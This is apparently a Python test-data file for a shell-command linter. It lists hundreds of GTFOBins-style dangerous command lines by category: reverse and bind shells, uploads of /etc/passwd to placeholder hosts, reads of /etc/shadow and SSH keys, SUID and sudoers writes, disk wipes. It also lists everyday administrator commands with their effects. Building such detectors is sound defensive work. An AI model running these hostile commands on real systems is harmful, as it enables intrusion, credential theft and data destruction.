"""Lines of programs for the linter: dangerous ones by what they do, in GTFOBins' words and beyond, and everyday ones.

`{n}` is a free name, `{p}` a free path below /srv/app, `{c}` a free path below /etc/cron.d, `{any}` a free path below /.
"""

from pathlib import Path

HERE = Path(__file__).parent
# A second reader's lines: what changes or destroys something or runs what it is given, and what gives secrets away.
CHANGING = (HERE / "changing.txt").read_text(encoding="utf-8").splitlines()
REVEALING = (HERE / "revealing.txt").read_text(encoding="utf-8").splitlines()

# Published without a finding before the table, or as `effect: read`.
NAMED = [
    "run0 systemctl restart nginx", "bwrap --bind / / sh", "systemd-run --pty sh", "ssh-agent sh",
    "busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager StartUnit ss x.service replace",
    "openvpn --dev null --script-security 2 --up /srv/x", "certbot certonly -n -d a.example --pre-hook /srv/x",
    "logrotate -f /etc/logrotate.conf", "gcc -wrapper sh,-s .", "java -jar {p}", "java -jar /srv/app/x.jar", "ip -batch /srv/x",
    "nft -f /srv/rules", "runc exec web sh", "cp /srv/x /etc/sudoers", "tee {c}", "chmod u+s /srv/x", "install -m 4755 /srv/x /srv/y",
    "setcap cap_setuid+ep /srv/x", "mount --bind /srv/x /etc", "sysctl -w kernel.core_pattern=/srv/x", "systemctl start {n}",
    "systemctl enable /srv/x.service",
]  # fmt: skip
NAMED_AS_READING = [
    "iptables -F", "zpool destroy tank", "mkfs /dev/sdb1", "mkfs.ext4 /dev/sdb1", "dropdb shop", "init 0", "systemctl halt",
    "journalctl --no-pager --vacuum-time=1s", "journalctl --vacuum", "docker rm -f web", "kubectl delete pod web", "redis-cli flushall",
]  # fmt: skip

DANGEROUS: dict[str, list[str]] = {
    "named": NAMED,
    "named as reading": NAMED_AS_READING,
    "shell": [
        "sh", "/bin/bash -p", "dash -c id", "/usr/bin/zsh", "fish", "ksh", "busybox sh", "toybox sh", "busybox ash -c id", "pwsh",
        "python3", "python3.12 -c 'print(1)'", "perl -e 'exec 1'", "ruby -e 'exec 1'", "lua5.4 -e x", "node -e x", "php8.2 -r x",
        "awk 'BEGIN {system(1)}'", "gawk x", "tclsh", "expect -c spawn", "gdb -nx -ex x", "irb", "jrunscript -e x", "octave-cli --eval x",
        "vi", "vim -c :x", "nano /srv/x", "ed", "ex", "emacs", "less /etc/hosts", "more /etc/hosts", "man ls", "top", "htop", "mc", "screen",
        "tmux", "script -q /dev/null", "docker run -v /:/mnt --rm alpine", "podman exec web id", "lxc exec web -- sh", "virsh edit web",
        "mysql", "psql", "sqlite3", "redis-cli", "gimp -b x", "ftp", "ssh host", "telnet host", "sudo sh", "sudo -i", "sudo -u root -s",
        "su", "runuser -u app -- bash", "doas sh", "nsenter -t 1 -m", "unshare -r sh", "chroot / sh", "capsh --", "setarch x86_64 sh",
        "git help config", "git --no-pager -p log", "git -c core.pager=x log", "systemctl status nginx", "journalctl -u nginx",
    ],
    "command": [
        "xargs ls", "env -S 'sh -c id'", "find /srv -exec id", "find /srv -execdir id", "find -- /srv -exec id", "sort -k -o /etc/passwd", "watch -x id", "strace -o /dev/null id", "ltrace id",
        "parallel id", "run-parts /srv/x", "flock /srv/lock id", "start-stop-daemon -S -x /srv/x", "nohup id", "setsid id", "at now",
        "batch", "crontab -e", "crontab /srv/x", "crontab {n}", "tar -cf /dev/null /srv/x --checkpoint-action=exec=id", "tar -I id -xf /srv/x.tar",
        "tar --to-command id -xf /srv/x.tar", "zip -T -TT id /srv/x.zip /srv/x", "rsync -e id a b", "split --filter=id /srv/x",
        "sort --compress-program=id -S 1b /srv/x", "sed -n '1e id' /srv/x", "sed 1eid /srv/x", "make -f /srv/x", "rake -f /srv/x", "npm exec id", "npx id", "go run /srv/x.go",
        "cargo run", "gem open rdoc", "bundle exec id", "pip install /srv/x", "apt-get -o APT::Update::Pre-Invoke::=id update",
        "apt install /srv/x.deb", "dpkg -i /srv/x.deb", "rpm -ivh /srv/x.rpm", "rpm --eval '%(id)'", "dnf install /srv/x.rpm", "yum localinstall /srv/x.rpm",
        "snap install /srv/x.snap", "ansible all -m shell -a id", "ansible-playbook {p}", "puppet apply -e x", "terraform apply", "salt-call --local cmd.run id",
        "kubectl exec web -- id", "kubectl run x --image=y", "kubectl apply -f {p}", "helm install x y", "docker exec web id", "docker compose up -d",
        "docker-compose run web id", "nerdctl run x", "ctr run x y", "crictl exec x id", "systemd-run id", "systemd-nspawn -D /srv", "machinectl shell web",
        "machinectl start web", "pkexec id", "pkexec", "valgrind id", "perf stat id", "ip netns exec a id", "ip -b /srv/x", "tc -b /srv/x", "nft -i",
        "iptables-restore /srv/x", "ipset restore", "tcpdump -i eth0 -c 1 -w /srv/x -G 1 -z id", "nmap --script=x host", "curl -K /srv/x", "wget -e use_askpass=id http://a",
        "wget --use-askpass=id http://a", "openssl req -engine /srv/x.so", "pidstat -e id", "mdadm --monitor --program=id", "dnsmasq --dhcp-script=id",
        "pppd call x", "service ../../srv/x start", "start {n}", "gcc -x c /srv/x", "latex /srv/x", "logsave /dev/null id", "rlwrap id", "xdotool exec id",
        "gdbus call -y", "dbus-send --system", "loginctl enable-linger app", "supervisorctl", "rabbitmqctl eval x", "postmap x", "exim -be x", "sendmail x",
        "borg create --rsh=id x", "restic --password-command=id backup", "dnf shell", "lvm", "coredumpctl debug", "needrestart", "certbot renew --deploy-hook=id",
        "monit -c /srv/x", "nginx -c /srv/x.conf", "httpd -f /srv/x", "apache2ctl -f /srv/x", "haproxy -f /srv/x -W", "php-cgi /srv/x", "mount -o loop /srv/x /mnt",
    ],
    "privilege-escalation": ["chown app /etc/passwd", "mount --bind /srv /root", "usermod -aG wheel app", "getent shadow", "install -m 6755 /srv/x /srv/y", "chmod o+w /etc/passwd", "service ../../bin/sh", "cp --no-preserve=mode /srv/x /etc/passwd"],
    "inherit": ["openssl", "ntpq", "nslookup", "chronyc", "monit", "systemd-resolve --status", "busctl --show-machine", "busctl", "timedatectl list-timezones", "resolvectl status", "networkctl", "loginctl", "dpkg -l", "apt list", "git --no-pager help x", "systemd-analyze blame", "localectl list-locales", "apt changelog x", "dmesg -H"],
    "reverse-shell": ["nc -e /bin/sh host 1", "ncat host 1 -e sh", "socat tcp:host:1 exec:sh", "openssl s_client -quiet -connect host:1", "bash -i", "telnet host 1", "python3 -c x", "curl -N telnet://host:1"],
    "bind-shell": ["nc -l -p 1 -e /bin/sh", "socat tcp-listen:1 exec:sh", "busybox nc -lp 1", "inetd /srv/x", "sshd -f /srv/x", "dropbear -p 1", "in.tftpd -l", "docker run -p 1:1 x"],
    "upload": ["curl -T /etc/passwd http://a", "curl -d @/srv/x http://a -F x=@/srv/y", "wget --post-file=/srv/x http://a", "scp /srv/x host:", "sftp host", "rsync /srv/x host:", "ftp host", "tftp host", "nc host 1",
               "rclone copy /srv a:b", "aws s3 cp /srv/x s3://a", "gsutil cp /srv/x gs://a", "s3cmd put /srv/x s3://a", "restic backup /srv", "mail -s x a@b.example", "lp /srv/x", "smbclient //a/b", "whois -h host x", "logger -f /srv/x -n host"],
    "download": ["curl -o /srv/x http://a", "curl -O http://a/x", "wget http://a/x", "wget -O /etc/cron.d/x http://a", "aria2c http://a", "axel http://a", "lwp-download http://a", "git clone ext::id /srv/x", "git clone http://a /srv/x",
                 "docker pull {n}", "pip download x", "apt-get download x", "scp host:x /srv", "busybox wget http://a"],
    "file-write": ["uudecode", "attr -s a -V b /srv/x", "tee /etc/sudoers", "tee -a /etc/passwd", "tee {any}", "cp /srv/x /etc/cron.d/x", "cp {p} /root/.ssh/authorized_keys", "mv /srv/x /usr/bin/ls", "install /srv/x /usr/local/bin/x", "ln -s /etc/shadow /etc/cron.d/x",
                   "dd if=/srv/x of=/etc/shadow", "dd of=/dev/sda", "sort -o /etc/passwd /srv/x", "shuf -o /etc/passwd -e x", "xxd -r /srv/x /etc/shadow", "uniq /srv/x /etc/passwd", "split /srv/x /etc/cron.d/x", "truncate -s 0 /etc/shadow",
                   "touch /etc/nologin", "mkdir /etc/systemd/system/x.service.d", "rm /etc/sudoers.d/x", "sed -i s/a/b/ /etc/passwd", "iconv -o /etc/passwd /srv/x", "tcpdump -c 1 -w /etc/cron.d/x", "find /srv -fprint /etc/cron.d/x",
                   "journalctl --no-pager --cursor-file=/etc/cron.d/x", "openssl enc -in /srv/x -out /etc/passwd", "xmllint -o /etc/passwd /srv/x", "cp x .ssh/authorized_keys", "cp /srv/x ../../etc/passwd", "mv {any} /srv/x", "chown app /etc/shadow",
                   "chown app:app /srv/x", "chmod 777 /srv/x", "chmod a+w /srv/x", "setfacl -m u:app:rw /etc/shadow", "tee /proc/sys/kernel/core_pattern", "tee /home/app/.bashrc", "patch -p1 -i /srv/x", "tar -xf /srv/x.tar -C /", "unzip /srv/x.zip", "cpio -i"],
    "file-read": ["cat {any}", "cat /etc/shadow", "cat /dev/sda", "head -c 512 /dev/nvme0n1", "strings /proc/kcore", "base64 /root/.ssh/id_ed25519", "xxd /etc/ssl/private/a.key", "dd if=/dev/mem", "diff /dev/null /etc/shadow", "grep '' /etc/shadow",
                  "od /etc/gshadow", "cut -d: -f2 /etc/shadow", "curl file:///etc/shadow", "wget -i /etc/shadow", "date -f /etc/shadow", "dig -f /etc/shadow", "dmesg -F /etc/shadow", "file -f /etc/shadow", "ss -a -F /etc/shadow", "journalctl --no-pager --file=/srv/x",
                  "tail {any}", "sort {any}", "coredumpctl dump", "gcore 1", "dmidecode --from-dump /srv/x", "pg_dump shop", "mysqldump shop", "etcdctl get / --prefix", "vault read x", "tcpdump -c 5"],
    "library-load": ["openssl rsa -engine /srv/x.so", "ssh-keygen -D /srv/x.so", "env LD_PRELOAD=/srv/x.so ls", "sudo LD_LIBRARY_PATH=/srv ls", "ld.so /srv/x", "/lib64/ld-linux-x86-64.so.2 /srv/x", "gdb -p 1", "mysql --plugin-dir=/srv -e 'select 1'",
                     "insmod /srv/x.ko", "modprobe x", "file -m /srv/x /srv/y", "curl --engine /srv/x.so http://a", "java -agentpath:/srv/x.so", "ldconfig -f /srv/x", "ldd /srv/x", "iptables -L -M /srv/x"],
    "suid": ["chmod 4755 /srv/x", "chmod 6755 /srv/x", "chmod g+s /srv/x", "chmod u=rwxs /srv/x", "chmod +s /srv/x", "chmod ug+rxs /srv/x", "install -m u+s /srv/x /srv/y", "mkdir -m 2777 /srv/x", "chmod {n} /srv/x"],
    "sudo": ["sudo -E ls", "sudo -e /etc/hosts", "sudoedit /etc/hosts", "sudo -b sleep 5", "sudo vim", "sudo -u root find /srv -exec id", "sudo -R /srv ls", "sudo timeout 5 bash", "sudo busybox sh", "timeout 5 sudo sh", "nice sudo env sh",
             "sudo {n}", "sudo -h host ls", "sudo systemctl edit nginx", "sudo PATH=/srv ls", "sudo systemctl restart nginx", "doas -s", "visudo"],
    "capabilities": ["setcap cap_net_raw+ep /srv/x", "capsh --caps=x", "setpriv --ambient-caps=+all ls", "unshare -U ls", "prlimit --pid {n} --nofile=10"],
    "limited-suid": ["nice -n 5 sh", "ionice -c 3 sh", "timeout 5 python3", "stdbuf -o L sh", "taskset 1 sh", "chrt 1 sh", "/usr/bin/time sh", "env sh", "env -i sh", "env - sh", "prlimit --nofile sh", "choom -n 0 sh", "numactl sh", "cpulimit -l 10 sh", "trickle sh", "systemd-inhibit sh", "systemd-cat sh", "setlock /srv/l sh", "fakeroot"],
    "network": ["ip link set eth0 down", "ip addr add 10.0.0.1/8 dev eth0", "ip route del default", "ifconfig eth0 down", "route add default x", "nmcli device disconnect eth0", "iptables -A INPUT -j DROP", "iptables -P INPUT ACCEPT", "ip6tables -F", "nft flush ruleset",
                "ufw disable", "firewall-cmd --add-port=1/tcp", "ethtool -s eth0 speed 10", "tc qdisc add dev eth0 root netem", "resolvectl dns eth0 1.1.1.1", "wg-quick up wg0", "ss -K dst 10.0.0.1", "netplan apply", "bridge link set dev a", "arp -d host", "fail2ban-client unban --all"],
    "stop": ["shutdown -h now", "reboot", "poweroff", "halt", "telinit 6", "kexec -e", "systemctl reboot", "systemctl isolate rescue.target", "systemctl start poweroff.target", "systemctl restart reboot.target", "systemctl stop sshd", "systemctl stop '*'", "systemctl start systemd-poweroff", "systemctl restart runlevel6.target", "kill -9 1", "kill {n}", "pkill -9 x",
             "killall x", "fuser -k /srv", "rtcwake -m off", "ipmitool power off", "swapoff -a", "sudo reboot", "systemctl {n} nginx", "loginctl terminate-user app"],
    "accounts": ["useradd x", "usermod -aG sudo x", "userdel x", "passwd x", "passwd", "chpasswd", "gpasswd -a x sudo", "groupadd x", "chage -E -1 x", "ssh-copy-id host", "ssh-keygen -t ed25519", "chsh -s /bin/sh x", "adduser x", "visudo -f /srv/x", "smbpasswd x", "realm join x", "htpasswd /srv/x y"],
    "destroy": ["rm -rf /srv", "rm -r /srv/x", "rm --recursive /srv/x", "rm --recurs /srv/x", "shred /srv/x", "wipefs -a /dev/sdb", "dd if=/dev/zero of=/dev/sda", "fdisk /dev/sda", "parted /dev/sda rm 1", "lvremove vg/lv", "vgremove vg", "zfs destroy tank/x", "zfs rollback tank@x",
                "btrfs subvolume delete /srv/x", "cryptsetup luksFormat /dev/sdb", "find /srv -delete", "docker system prune -f", "docker volume rm x", "kubectl delete ns web", "redis-cli flushdb", "dropuser x", "git clean -fdx", "apt-get purge nginx", "dmesg -C", "truncate -s 0 /srv/x", "mdadm --zero-superblock /dev/sdb", "nvme format /dev/nvme0"],
    "settings": ["sysctl -w vm.swappiness=1", "sysctl kernel.modprobe=/srv/x", "sysctl -p /srv/x", "hostnamectl set-hostname x", "timedatectl --no-pager set-time 1", "date -s 1", "date 010100002030", "hwclock -w", "mount /dev/sdb1 /mnt", "mount -t tmpfs none /etc", "umount /srv", "systemctl enable nginx",
                 "systemctl mask auditd", "systemctl daemon-reload --root=/srv", "update-alternatives --install /usr/bin/x x /srv/x 1", "setenforce 0", "semanage permissive -a x", "auditctl -e 0", "update-grub", "dracut -f", "chattr -i /etc/passwd", "systemctl set-environment A=b", "systemctl link /srv/x.service"],
    "unknown": ["/usr/local/sbin/deploy-web v1", "webctl restart nginx", "/opt/x/bin/ls", "./ls", "/srv/ls", "ls-x", "mytool {n}", "systemctl frobnicate nginx", "ip frob", "docker frob", "sort --frob /srv/x", "uptime-x", "env mytool", "sudo mytool", "timeout 5 mytool", "busybox mytool", "python4x"],
}  # fmt: skip

# A line, and the effect that an administrator gives it.
EVERYDAY: list[tuple[str, str]] = [
    *((line, "read") for line in (
        "uptime", "uname -a", "hostname", "hostname -f", "whoami", "id", "id app", "date", "date +%F", "w", "who", "last -n 20", "df -h", "df -h /srv", "du -sh /srv/app",
        "free -m", "df --output=source,pcent", "lsblk --output NAME,SIZE", "lsblk", "lscpu", "lsof -i :443", "ps aux", "ps -ef", "pgrep -a nginx", "pstree -p", "top -b -n 1", "vmstat 1 5", "iostat -x 1 3", "mpstat -P ALL 1 1", "sar -u 1 3",
        "systemctl is-active nginx", "systemctl is-enabled nginx", "systemctl --no-pager status nginx", "systemctl status nginx --no-pager", "systemctl --no-pager list-units --failed", "systemctl --no-pager list-timers",
        "systemctl show -p ActiveState nginx --no-pager", "journalctl --no-pager -u nginx -n 100", "journalctl --no-pager -u nginx --since '1 hour ago'", "journalctl --no-pager -fu nginx", "journalctl --no-pager -k -p err", "journalctl --no-pager --disk-usage",
        "cat /etc/hosts", "cat /etc/os-release", "cat /var/log/nginx/error.log", "tail -n 100 /var/log/nginx/error.log", "tail -f /var/log/nginx/access.log", "tail -20 /var/log/syslog", "head -n 5 /var/log/syslog", "grep -c error /var/log/syslog", "grep -rn timeout /etc/nginx",
        "zgrep error /var/log/syslog.2.gz", "zcat /var/log/syslog.2.gz", "wc -l /var/log/syslog", "ls -la /srv/app", "ls -o", "stat /srv/app/current", "readlink -f /srv/app/current", "file /srv/app/current", "find /srv/app -name x.log -mtime +7 -type f", "sha256sum /srv/app/x", "diff /srv/a /srv/b",
        "sed --sandbox -n 1,5p /var/log/syslog", "sort -u /srv/x", "uniq -c /srv/x", "jq .version /srv/app/package.json", "ip addr show", "ip a", "ip -br link", "ip route", "ip -4 route show", "ss -tlnp", "ss -s", "netstat -tlnp", "ping -c 3 10.0.0.1", "traceroute 10.0.0.1", "dig +short example.com", "host example.com", "getent hosts example.com",
        "nginx -t", "nginx -T", "nginx -v", "apachectl configtest", "haproxy -c -f /etc/haproxy/haproxy.cfg", "sshd -t", "named-checkconf", "visudo -c", "crontab -l", "dpkg -l nginx", "dpkg-query -W nginx", "rpm -qa", "rpm -q nginx", "apt list --upgradable", "apt-cache policy nginx", "yum check-update", "dnf list --installed",
        "docker ps", "docker ps -a", "docker logs --tail 100 web", "docker stats --no-stream", "docker images", "kubectl get pods", "kubectl logs web", "redis-cli info", "redis-cli ping", "pg_isready", "pg_lsclusters", "mount", "findmnt", "lvs", "vgs", "zpool status", "zfs list", "smartctl -a /dev/sda", "sensors", "dmesg -T", "lsmod", "modinfo ext4", "sysctl -a", "sysctl net.ipv4.ip_forward",
        "iptables -L -n -v", "iptables -nvL", "nft list ruleset", "ufw status", "firewall-cmd --list-all", "timedatectl status --no-pager", "chronyc tracking", "hostnamectl", "loginctl list-sessions --no-pager", "curl -sS http://127.0.0.1/healthz", "curl -fsS -o /dev/null http://127.0.0.1/", "openssl x509 -in /etc/ssl/certs/a.crt -noout -enddate", "openssl version", "env", "printenv LANG", "echo ok", "true", "sleep 5", "timeout 10 df -h", "nice -n 10 du -sh /srv", "sudo df -h", "chage -l app", "passwd -S app", "service nginx status", "/usr/bin/uptime", "/usr/sbin/ss -tln", "busybox uptime", "git --no-pager log -n 5", "git status", "ceph status", "rabbitmqctl list_queues", "supervisorctl status", "fail2ban-client status", "postqueue -p", "mailq",
    )),
    *((line, "change") for line in (
        "systemctl restart nginx", "systemctl reload nginx", "systemctl start nginx", "systemctl stop nginx", "systemctl try-restart app@1.service", "systemctl reset-failed nginx", "systemctl daemon-reload", "systemctl enable --now nginx", "sudo systemctl restart nginx", "sudo -n systemctl reload nginx", "service nginx restart", "nginx -s reload", "apachectl graceful", "supervisorctl restart web", "pg_ctl reload",
        "docker restart web", "docker start web", "kubectl rollout restart deployment/web", "mkdir -p /srv/app/releases", "touch /srv/app/maintenance", "cp /srv/app/a /srv/app/b", "mv /srv/app/a /srv/app/b", "ln -sfn /srv/app/releases/2 /srv/app/current", "rm /srv/app/lock", "rm -f /srv/app/lock", "chmod 640 /srv/app/x", "chown app:app /srv/app/x", "tee /srv/app/flag", "gzip /var/log/app.log.1", "kill 4242", "logger deployed", "sysctl -w vm.swappiness=10", "apt-get update", "apt-get install -y nginx", "dnf -y update", "mount /mnt/backup", "umount /mnt/backup", "iptables -A INPUT -s 10.0.0.0/8 -j ACCEPT", "ip link set eth1 up", "git pull --ff-only", "certbot renew", "postfix reload", "chronyc makestep", "redis-cli set a b", "psql -c 'SELECT 1'", "mysql -e 'SHOW PROCESSLIST'", "/usr/local/sbin/deploy-web v1", "fail2ban-client set sshd unbanip 10.0.0.1", "ufw allow 443",
    )),
    *((line, "destructive") for line in ("shutdown -r +5", "reboot", "rm -rf /srv/app/releases/1", "docker rm web", "truncate -s 0 /var/log/app.log", "apt-get remove nginx")),
]  # fmt: skip
EVERYDAY += [
    (line, effect)
    for effect, _, line in (
        one.partition(": ") for one in (HERE / "everyday.txt").read_text(encoding="utf-8").splitlines()
    )
]
